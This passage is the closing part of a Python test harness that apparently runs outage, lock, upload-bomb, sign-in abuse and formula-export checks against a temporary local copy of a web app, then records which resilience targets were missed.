            print("1. PostgreSQL stopped for 15 s under load…", flush=True)
            results["outage"] = outage(base, cluster)
            print("2. task_updates locked for 40 s…", flush=True)
            results["lock"] = table_lock(base, cluster)
            print("3. /verify abuse…", flush=True)
            results["verify"] = verify_abuse(base)
            print("4. .xlsx bombs on the plan import…", flush=True)
            results["xlsx_bombs_http"] = import_bombs(base, master)
            print("5. sign-in guesses and a copied cookie…", flush=True)
            results["sign_in"] = sign_in_abuse(base)
            print("6. a formula in a note, exported…", flush=True)
            results["formula"] = formula_export(base)
            text = log.read_text(errors="replace")
            results["worker_timeouts"] = text.count("WORKER TIMEOUT")
            results["server_tracebacks"] = text.count("Traceback")
            results["server_errors"] = server_errors(text)
        results["xlsx_bombs_in_process"] = in_process_bombs()
    finally:
        cluster.remove()
        shutil.rmtree(work, ignore_errors=True)
    results["missed"] = check(results)
    OUT.write_text(json.dumps(results, indent=2, ensure_ascii=False, default=str))
    print(json.dumps(results, indent=2, ensure_ascii=False, default=str))
    print(f"\nWritten to {OUT.relative_to(ROOT)}; targets missed: {len(results['missed'])}")
    for line in results["missed"]:
        print("  MISSED:", line)
    return 1 if results["missed"] else 0


if __name__ == "__main__":
    raise SystemExit(main())
